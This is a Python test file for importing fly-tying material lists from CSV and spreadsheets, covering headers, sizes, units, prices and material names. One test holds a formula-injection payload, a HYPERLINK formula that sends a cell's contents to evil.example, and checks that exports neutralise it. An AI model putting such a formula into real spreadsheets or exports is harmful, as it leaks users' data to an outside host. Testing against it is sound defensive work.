"""Lists as people keep them, made rows of a box: headers, units, dates, portions, own columns."""

from __future__ import annotations

import csv
import io
from functools import cache
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tests.real import EXAMPLES, rulebook
from variants.box import BoxStore
from variants.box.export import load_table, to_csv, to_workbook
from variants.box.list_cells import normalize_price, normalize_sizes
from variants.box.list_columns import read_column_words
from variants.box.list_import import ImportedList, ListReader
from variants.box.new_item import ItemParser, load_item_parser
from variants.box.sold_as import convert_sold_amount, read_sold_as
from variants.reading import InputError
from variants.reading.sizes import parse_sizes
from variants.reading.words import load_glossary
from variants.rulebook import own_rules_folder
from variants.views.box_import import import_lines

FOLDERS = [own_rules_folder()]


@cache
def reader() -> ListReader:
    trade = rulebook().trade
    return ListReader(
        trade, load_glossary(FOLDERS, trade), read_column_words(FOLDERS), read_sold_as(FOLDERS)
    )


def listed(tmp_path: Path, text: str, **more: object) -> ImportedList:
    path = tmp_path / "list.csv"
    path.write_text(text, encoding="utf-8")
    return reader().read(path, **more)  # type: ignore[arg-type]


def test_titles_and_a_merged_header_are_understood() -> None:
    found = reader().read(EXAMPLES / "lists" / "shed.csv")
    assert (found.header.line, found.header.lines) == (3, 2)
    assert [(column.target, column.unit) for column in found.header.columns] == [
        ("item", ""),
        ("material", ""),
        ("colour", ""),
        ("sizes from", ""),
        ("sizes to", ""),
        ("length", "mm"),
        ("amount", ""),
        ("place", ""),
        ("From whom", ""),
    ]
    assert found.faults == []
    assert found.rows[0].values == {
        "item": "Miller's cape",
        "material": "cock cape",
        "colour": "light ginger",
        "sizes": "12-18",
        "amount": "67 feathers",
        "place": "tin trunk",
        "From whom": "the miller",
    }
    assert found.rows[1].values["length"] == "7.5 - 11 mm"
    assert [row.line for row in found.rows] == [5, 6, 7, 8, 9, 10]


def test_merged_header_cells_of_a_workbook_are_understood(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    rows = [
        ["Feathers"],
        ["Name", "Material", "Length in mm", None, "Place", "Value"],
        [None, None, "from", "to", None, None],
        ["a", "hen cape", 6.5, 9, "drawer", "=1+1"],
        ["b", "hen cape", 7, 7, None, None],
    ]
    for row in rows:
        sheet.append(row)
    sheet.merge_cells("A1:F1")
    sheet.merge_cells("C2:D2")
    sheet.merge_cells("E4:E5")
    written = io.BytesIO()
    book.save(written)
    path = tmp_path / "list.xlsx"
    path.write_bytes(written.getvalue())
    found = reader().read(path, fill=["place"])
    assert [row.values["length"] for row in found.rows] == ["6.5-9 mm", "7 mm"]
    assert [row.values["place"] for row in found.rows] == ["drawer", "drawer"]
    # The formula was never worked out by a spreadsheet, and is not worked out here.
    assert all("value" not in row.values for row in found.rows)
    assert found.faults == []


@pytest.mark.parametrize(
    ("text", "sizes"),
    [
        ("12-16", (12, 14, 16)),
        ("#12 - #16", (12, 14, 16)),
        ("16 to 12", (12, 14, 16)),
        ("size 14", (14,)),
        ("12/14", (12, 14)),
        ("12 & 14", (12, 14)),
        ("no. 14", (14,)),
        # Spreadsheets take 12-14 for a day: the fourteenth of December.
        ("14-Dec", (12, 14)),
        ("Dec-14", (12, 14)),
        ("2026-12-14", (12, 14)),
        ("12/14/2026", (12, 14)),
        ("14.12.2026", (12, 14)),
        ("10-Aug", (8, 10)),
    ],
)
def test_sizes_are_read_however_they_are_written(text: str, sizes: tuple[int, ...]) -> None:
    assert parse_sizes(normalize_sizes(text)[0]) == sizes


def test_a_size_made_a_date_is_told(tmp_path: Path) -> None:
    found = listed(tmp_path, "item,material,size\na,hen cape,14-Dec\n")
    assert "sizes 12-14: a spreadsheet made a date of it" in found.rows[0].doubts


@pytest.mark.parametrize(
    ("text", "price"),
    [
        ("£3.50", "3.50"),
        ("3,50 €", "3.50"),
        ("$ 1,234.50", "1234.50"),
        ("4", "4"),
        ("free", "free"),
    ],
)
def test_prices_lose_their_currency(text: str, price: str) -> None:
    assert normalize_price(text) == price


@pytest.mark.parametrize(
    ("material", "said", "amount"),
    [
        ("cock cape", "1 neck", "200 feathers"),
        ("cock cape", "half a neck", "100 feathers"),
        ("cock cape", "1/4 neck", "50 feathers"),
        ("cock cape", "two thirds", "two thirds"),
        ("rabbit fur", "2 packets", "2 g"),
        ("rabbit fur", "1.5 packets", "1.5 g"),
        ("dry fly hook", "a packet", "25 hooks"),
        ("rabbit fur", "1 neck", "1 neck"),
        ("rabbit fur", "3 pinches", "3 pinches"),
        ("cock cape", "1/0 neck", "1/0 neck"),
    ],
)
def test_amounts_may_be_told_as_stuff_is_sold(material: str, said: str, amount: str) -> None:
    stuff = rulebook().trade.material_names[material]
    assert convert_sold_amount(said, stuff, read_sold_as(FOLDERS)).amount == amount


def test_what_columns_are_can_be_told(tmp_path: Path) -> None:
    text = "bin,item,material,secret\nx,a,hen cape,y\n"
    found = listed(tmp_path, text, told={"bin": "place", "secret": ""})
    assert found.rows[0].values == {"place": "x", "item": "a", "material": "hen cape"}
    with pytest.raises(InputError, match="no column 'ban'"):
        listed(tmp_path, text, told={"ban": "place"})


def test_what_a_row_lacks_is_told_with_its_line(tmp_path: Path) -> None:
    found = listed(tmp_path, "item;material;qty\na;hen caep;2\n\nb;partrige zzz;\n")
    assert [fault.origin.line for fault in found.faults] == [2, 2, 4]
    assert "did you mean 'hen cape'" in str(found.faults[0])
    assert all(row.item is None for row in found.rows)


def test_words_settle_material_and_colour(tmp_path: Path) -> None:
    text = "what,where\nolive seal's fur,shelf\nwhite duck quills,shelf\n"
    found = listed(tmp_path, text)
    assert [(row.values["material"], row.values["colour"]) for row in found.rows] == [
        ("seal's fur", "medium olive"),
        ("duck wing quill", "white"),
    ]
    assert found.faults == []


def test_a_list_without_a_header_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no header"):
        listed(tmp_path, "a,b\nc,d\n")
    with pytest.raises(InputError, match="no header"):
        listed(tmp_path, "\n\n")


def test_things_without_a_name_get_one_each(tmp_path: Path) -> None:
    found = listed(tmp_path, "material,colour\nhen cape,brown\nhen cape,brown\n")
    names = [row.values["item"] for row in found.rows]
    assert names == ["hen cape brown", "hen cape brown 2"]


RUNS = '=HYPERLINK("http://evil.example/"&B2)'


def test_a_columns_name_is_guarded_as_cells_are_and_keeps_its_capitals(tmp_path: Path) -> None:
    """What a spreadsheet would run is text in the box and in each export, and reads back."""
    quoted = RUNS.replace('"', '""')
    found = listed(tmp_path, f'Name,Material,My Ref,"{quoted}"\na,hen cape,A7,x\n')
    store = BoxStore(tmp_path / "box.csv", rulebook().trade)
    store.import_rows([row.values for row in found.rows])
    header = (tmp_path / "box.csv").read_text("utf-8").splitlines()[0]
    assert header.endswith(f""",My Ref,"'{quoted}\"""")
    assert store.row("a")["my ref"] == "A7"
    for separator in (",", ";", "\t"):
        out = tmp_path / "out.csv"
        out.write_bytes(to_csv(load_table(store.path), separator))
        (names, _) = csv.reader(out.read_text("utf-8-sig").splitlines(), delimiter=separator)
        assert names[-2:] == ["My Ref", f"'{RUNS}"]
        assert load_table(out) == load_table(store.path)
    book = load_workbook(io.BytesIO(to_workbook(load_table(store.path))))
    assert [cell.value for cell in book.active[1]][-2:] == ["My Ref", f"'{RUNS}"]
    store.correct("a", {"MY REF": "A8", RUNS: "y", "Shelf No": "3"})
    assert load_table(store.path)[0][-3:] == ["My Ref", f"'{RUNS}", "Shelf No"]
    assert store.row("a")["my ref"] == "A8"
    store.undo()
    assert store.row("a")["my ref"] == "A7"


#: What a stranger's list says, and what it has to become: a material and a colour, or a question.
SAID = [
    ("Red chenille", "chenille", "scarlet"),
    ("Red floss", "silk floss", "scarlet"),
    ("Red bucktail", "bucktail", "scarlet"),
    ("red goose biots", "goose biot", "scarlet"),
    ("red seal's fur", "seal's fur", "scarlet"),
    ("Red holographic tinsel", "holographic film tinsel", "scarlet"),
    ("Gold beads", "brass bead", "gold"),
    ("Gold bead", "brass bead", "gold"),
    ("Silver bead chain", "bead chain eyes", "silver"),
    ("gold chenille", "chenille", "gold"),
    ("gold tinsel", "flat gold tinsel, metal", ""),
    ("turkey biot, olive", "turkey biot", "medium olive"),
    ("CDC, tan", "cul de canard", "tan"),
    ("Mallard bronze", "bronze mallard", ""),
    ("elk hair", "elk body hair", ""),
    ("jig hooks", "jig hook", ""),
    ("barbless dry hooks", "barbless dry fly hook", ""),
    ("barbless dry", "barbless dry fly hook", ""),
    ("natural deer hair", "deer body hair", "natural deer"),
    ("Cock hackle, saddle, dyed", "cock saddle hackle, dry grade", ""),
    ("golden yellow floss", "silk floss", "golden yellow"),
    ("dark claret seal's fur", "seal's fur", "dark claret"),
    ("turkey rump feather", "turkey rump feather", ""),
    ("fluorescent floss", "fluorescent floss", ""),
    ("barbless jig hook", "barbless jig hook", ""),
]
OPEN = {
    "Red hackle": "does not tell which material",
    "Brown hackle": "does not tell which material",
    "Soft hackle": "does not tell which material",
    "red cock cape": "'red' may be natural red or scarlet",
    "natural chenille": "has not one natural colour",
    "barbless streamer hook": "makes another thing of it",
    "tinsel": "stuffs: which is",
    "hooks": "stuffs: which is",
}


@pytest.mark.parametrize(("said", "material", "colour"), SAID)
def test_words_become_what_they_say(tmp_path: Path, said: str, material: str, colour: str) -> None:
    found = listed(tmp_path, f'item,note\n"{said} 14",x\n')
    assert [str(fault) for fault in found.faults] == []
    row = found.rows[0]
    assert (row.values["material"], row.values.get("colour", "")) == (material, colour)
    # Whatever was made of the words is told before it is written.
    told = " ".join(" ".join(import_lines(found, None, "box.csv")).split())
    assert f"“{said} 14” is taken for {', '.join(filter(None, (material, colour)))}" in told
    thing = adding().parse({"item": said, "sizes": "14"}, None)
    assert thing.cells["material"] == material
    assert thing.cells.get("colour", "") == colour


@pytest.mark.parametrize("said", OPEN)
def test_what_is_not_sure_is_asked_and_not_guessed(tmp_path: Path, said: str) -> None:
    found = listed(tmp_path, f'item,sizes\n"{said}",14\n')
    assert OPEN[said] in " ".join(map(str, found.faults))
    assert found.rows[0].item is None
    with pytest.raises(InputError, match=f"{OPEN[said]}|does not tell which material"):
        adding().parse({"item": said, "sizes": "14"}, None)


@cache
def adding() -> ItemParser:
    return load_item_parser(rulebook(), [])


def test_the_head_of_a_drawer_does_not_make_one_thing_of_all_in_it(tmp_path: Path) -> None:
    text = (
        "item,material,size\njig hook,hook,12\ncurved hook,hook,14\nold tin,hook,10\n"
        "lemon flank,thread,\nhen cape,rabbit fur,\n"
    )
    found = listed(tmp_path, text)
    told = [row.values.get("material") for row in found.rows if row.item]
    assert told == ["jig hook", "curved emerger hook"]
    assert [fault.origin.line for fault in found.faults] == [4, 5, 6]
    assert "stuffs: which is 'old tin'?" in str(found.faults[0])
    assert "is hen neck hackle by its name, and rabbit fur by its material" in str(found.faults[2])
    with pytest.raises(InputError, match="'hook' does not tell which material"):
        adding().parse({"item": "old tin", "material": "hook", "sizes": "12"}, None)
    jig = adding().parse({"item": "jig hook", "material": "hook", "sizes": "12"}, None)
    assert jig.item.material.name == "jig hook"


def test_a_bare_number_counts_what_is_whole_and_nothing_else(tmp_path: Path) -> None:
    found = listed(tmp_path, "item,qty\nhen cape brown,1\njig hook 12,25\n")
    assert [fault.problem for fault in found.faults] == ["'1' has no unit"]
    assert found.rows[1].values["amount"] == "25 hooks"
    # A column of nothing but units is one, whatever its head.
    text = "item,qty,as\nolive marabou,2,packets\nhen cape brown,1,cape\nlead wire,2,m\n"
    found = listed(tmp_path, text)
    assert found.faults == []
    assert [row.values["amount"] for row in found.rows] == ["40 feathers", "200 feathers", "2 m"]
    assert all("as" not in row.values for row in found.rows)


def test_rows_of_one_name_are_told_apart_and_it_is_shown(tmp_path: Path) -> None:
    text = (
        "item,material,colour,size,mine\nMarabou,marabou,black,,a\nMarabou,marabou,olive,,b\n"
        "jig,jig hook,,14,c\njig,jig hook,,16,d\ncape,hen cape,brown,,e\ncape,hen cape,brown,,f\n"
        "Marabou black,marabou,black,,g\n"
    )
    found = listed(tmp_path, text)
    names = [row.values["item"] for row in found.rows]
    assert names == [
        "Marabou black 2", "Marabou olive", "jig 14", "jig 16", "cape brown", "cape brown 2",
        "Marabou black",
    ]  # fmt: skip
    told = " ".join(" ".join(import_lines(found, None, "box.csv")).split())
    assert "named “Marabou olive”: 2 rows are called “Marabou”" in told
    store = BoxStore(tmp_path / "box.csv", rulebook().trade)
    store.import_rows([row.values for row in found.rows])
    assert [item.id for item in store.read().box.items] == names
    assert [store.row(name)["mine"] for name in names] == list("abcdefg")
